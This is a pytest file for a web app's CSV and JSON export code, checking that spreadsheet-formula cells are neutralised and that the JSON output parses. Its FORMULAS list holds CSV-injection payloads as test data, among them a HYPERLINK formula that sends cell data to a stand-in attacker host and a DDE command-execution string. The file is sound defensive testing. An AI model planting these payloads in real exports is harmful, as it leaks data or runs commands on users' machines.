"""The exports' own rules: CSV cells that are never formulas, streamed documents
that parse, and one canonical JSON form."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
import responses
from support import BASE, enter_token, make_app
from support.exports import csv_data
from support.fake_airisk import summary

from webapp.core.exports import (
    CSV_FIELDS,
    canonical_json,
    csv_document,
    csv_lines,
    json_lines,
)

#: Cells a spreadsheet would run as a formula (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def record(**fields: object) -> dict[str, object]:
    return {field: None for field in CSV_FIELDS} | {"id": "c1"} | fields


@pytest.mark.parametrize("formula", FORMULAS)
def test_chart_csv_cells_are_never_formulas(formula: str) -> None:
    text = csv_document(
        ("agent", "conversations"), [{"agent": formula, "conversations": 3}]
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["agent", "conversations"], ["'" + formula, "3"]]


def test_chart_csv_numbers_and_missing_values() -> None:
    text = csv_document(("day", "cost"), [{"day": "2026-11-28", "cost": None}])
    assert list(csv.reader(io.StringIO(text))) == [["day", "cost"], ["2026-11-28", ""]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_list_csv_cells_are_never_formulas(formula: str) -> None:
    rows = list(
        csv.reader(
            io.StringIO("".join(csv_lines([record(title=formula, agentName=formula)])))
        )
    )
    assert rows[0] == list(CSV_FIELDS)
    row = dict(zip(CSV_FIELDS, rows[1], strict=True))
    assert row["title"] == "'" + formula
    assert row["agentName"] == "'" + formula


def test_list_csv_keeps_plain_values_and_joins_tags() -> None:
    text = "".join(
        csv_lines([record(title="Q3 = plan", cost=0.5, tags=["-x", "y"], flagged=True)])
    )
    row = dict(zip(CSV_FIELDS, list(csv.reader(io.StringIO(text)))[1], strict=True))
    assert row["title"] == "Q3 = plan"
    assert row["cost"] == "0.5"
    assert row["flagged"] == "True"
    assert row["tags"] == "'-x;y"


def test_streamed_json_is_one_document() -> None:
    pieces = json_lines({"format": "x"}, [{"id": "a"}, {"id": "b\n\u2028"}])
    # The signature member and the closing brace follow (webapp.core.signatures).
    document = json.loads("".join(pieces) + "}")
    assert document == {
        "format": "x",
        "conversations": [{"id": "a"}, {"id": "b\n\u2028"}],
    }
    assert json.loads("".join(json_lines({}, [])) + "}") == {"conversations": []}


def test_canonical_json_does_not_depend_on_key_order() -> None:
    one = canonical_json({"b": 1, "a": [1, {"d": 2, "c": "é"}]})
    other = canonical_json({"a": [1, {"c": "é", "d": 2}], "b": 1})
    assert one == other


def test_the_insights_csv_neutralises_a_hostile_agent_name(tmp_path: object) -> None:
    app = make_app(tmp_path)
    client = app.test_client()
    today = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    with responses.RequestsMock(assert_all_requests_are_fired=False) as upstream:
        upstream.get(
            BASE + "/api/Chat/ListAgents",
            json=[{"id": "a1", "name": FORMULAS[0]}],
        )
        first_page = json.dumps([summary(1, lastUpdated=today, createdDate=today)])
        upstream.add_callback(
            responses.GET,
            BASE + "/api/Chat/GetConversations",
            callback=lambda request: (
                200,
                {},
                first_page if "skip=0" in request.url else "[]",
            ),
        )
        enter_token(client, "alice-token-0123456789abcdef")
        response = client.get("/insights/agents.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(csv_data(response.get_data(as_text=True)))))
    assert [row["agentName"] for row in rows] == ["'" + FORMULAS[0]]
